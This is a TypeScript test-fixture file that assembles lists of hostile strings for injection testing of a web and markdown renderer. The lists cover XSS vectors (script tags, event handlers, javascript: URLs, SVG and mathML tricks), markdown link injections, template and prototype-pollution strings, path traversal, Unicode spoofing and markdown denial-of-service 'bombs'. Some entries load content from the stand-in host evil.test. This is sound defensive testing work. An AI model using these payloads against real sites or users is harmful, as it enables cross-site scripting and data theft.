import { readVectors } from "../harness/vectors.ts";
/**
 * Text that runs, asks a foreign host or breaks a page where it is taken for markup: families of
 * the public cheat sheets, each written out and combined with the ways into a page. `hit(…)` and
 * `evil.test` are what `injection.ts` listens for.
 */
const EVENTS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin"];
const RUN = "hit(1)";

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src=https://evil.test/a.js></script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script/x>${RUN}</script>`,
  `<script>${RUN}`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</template><img src=x onerror=${RUN}>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<img src=x onerror=${RUN}>`,
  `<img src=https://evil.test/pixel.png>`,
  `<img src="x" ONERROR="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x onerror\n=\n${RUN}>`,
  `<img src=x:x onerror=&#104;it(1)>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  "`><img src=x onerror=hit(1)>",
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src=https://evil.test/></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href=https://evil.test/>`,
  `<meta http-equiv=refresh content="0;url=https://evil.test/">`,
  `<link rel=stylesheet href=https://evil.test/a.css>`,
  `<style>@import 'https://evil.test/a.css';*{display:none}</style>`,
  `<p style="background:url(https://evil.test/p.png)">x</p>`,
  `<form action=https://evil.test/><input name=q autofocus onfocus=${RUN}></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<input onfocus=${RUN} autofocus>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="&#x6A;avascript:${RUN}">x</a>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<div id=og-props>[]</div>`,
  `<og-island data-island=0></og-island>`,
  `<form id=document><input name=cookie></form>`,
];

const MARKDOWN = [
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java\tscript:${RUN})`,
  `[x]( javascript:${RUN})`,
  `[x](&#106;avascript:${RUN})`,
  `[x](javascript&colon;${RUN})`,
  `[x](\u0001javascript:${RUN})`,
  `[x](vbscript:msgbox(1))`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=)`,
  `[x](file:///etc/passwd)`,
  `[x](blob:https://evil.test/1)`,
  `[x](https://good.test" onmouseover="${RUN})`,
  `[x](<https://good.test" onmouseover="${RUN}>)`,
  `[x](https://good.test 'a" onclick="${RUN}')`,
  `![x](https://evil.test/pixel.png)`,
  `![x](javascript:${RUN})`,
  `![x" onerror="${RUN}](https://evil.test/p.png)`,
  `<javascript:${RUN}>`,
  `<https://good.test/"onclick="${RUN}>`,
  `[a]: javascript:${RUN}\n\n[a]`,
  `https://good.test/"><img src=x onerror=${RUN}>`,
  `https://user:javascript:${RUN}@good.test`,
  '```"><script>hit(1)</script>\nx\n```',
  "```js onmouseover=hit(1)\nx\n```",
  "`<img src=x onerror=hit(1)>`",
  `||<img src=x onerror=${RUN}>||`,
  `> <script>${RUN}</script>`,
  `# <svg onload=${RUN}>`,
  `| <img src=x onerror=${RUN}> | b |\n|---|---|\n| [x](javascript:${RUN}) | d |`,
  `<@"><img src=x onerror=${RUN}>:x>`,
  `<&"><svg onload=${RUN}>>`,
  `<#javascript:${RUN}>`,
  `@everyone<script>${RUN}</script>`,
];

const CODE = [
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `{{=<% ${RUN} %>=}}`,
  `#{${RUN}}`,
  `javascript:${RUN}`,
  `'-${RUN}-'`,
  `";${RUN};//`,
  `\\";${RUN};//`,
  `\u2028${RUN}//`,
  `__proto__`,
  `constructor`,
  `{"__html":"<img src=x onerror=${RUN}>"}`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
  `{"type":"img","props":{"src":"x","onerror":"${RUN}"},"constructor":null}`,
];

const SHAPES = [
  "\u202Egnp.exe\u202C",
  "\u2067rtl\u2066ltr",
  "a\u0000b\u0007c\u001b[31md",
  "\u200b\u200c\u200d\u2060\ufeff",
  "z" + "\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308".repeat(5),
  "\ufdfd".repeat(60),
  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}".repeat(7),
  "\ud83d",
  "W".repeat(64),
  "a/../../../etc/passwd",
  "%3Cscript%3Ehit(1)%3C/script%3E",
  "&lt;script&gt;hit(1)&lt;/script&gt;",
  "+ADw-script+AD4-hit(1)+ADw-/script+AD4-",
  "\uff1cscript\uff1ehit(1)\uff1c/script\uff1e",
];

const HANDLERS = EVENTS.flatMap((event) => [
  `" ${event}="${RUN}" x="`,
  `' ${event}='${RUN}' x='`,
  ` ${event}=${RUN} `,
  `<x ${event}=${RUN} tabindex=1 autofocus>x`,
]);

export const HOSTILE: readonly string[] = [
  ...ELEMENTS,
  ...MARKDOWN,
  ...CODE,
  ...SHAPES,
  ...HANDLERS,
];

/** One of each family, for the places that are slow to fill. */
export const HOSTILE_SHORT: readonly string[] = [
  `"><img src=x onerror=${RUN}>`,
  `<script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `<img src=https://evil.test/p.png>`,
  `" onfocus="${RUN}" autofocus x="`,
  `[x](javascript:${RUN})`,
  `{{constructor.constructor('${RUN}')()}}`,
  "\u202Egnp.exe\u202C",
  "\u200b\u2066<svg onload=hit(1)>",
  "z" + "\u0300\u0301\u0302".repeat(9),
];

/** Markdown of the greatest length that means the most work, or the most elements. */
export const BOMBS: readonly string[] = [
  "*",
  "_",
  "`",
  "[",
  "![",
  "](",
  "<",
  "> ",
  "- ",
  "1. ",
  "||",
  "~~",
  "**a",
  "[a](b)",
  "\\",
  "| ",
  "#",
  "<@",
  "&#",
  "https://a.b/(",
  "a\n\n",
  "- a\n ",
  "```\n",
  "x\n---\n",
].map((piece) => piece.repeat(Math.floor(4000 / piece.length)));

/**
 * The public list of naughty strings, from the folder that OPENGUILD_VECTORS names; it is not part
 * of the project. Without the folder it says loudly that only the strings of this file were tried.
 */
export async function naughtyStrings(): Promise<string[]> {
  const folder = Deno.env.get("OPENGUILD_VECTORS");
  if (folder !== undefined) return await readVectors<string[]>(folder, "strings/blns.json");
  console.warn("\n*** NOT TRIED: the public naughty strings: set OPENGUILD_VECTORS ***");
  return [];
}
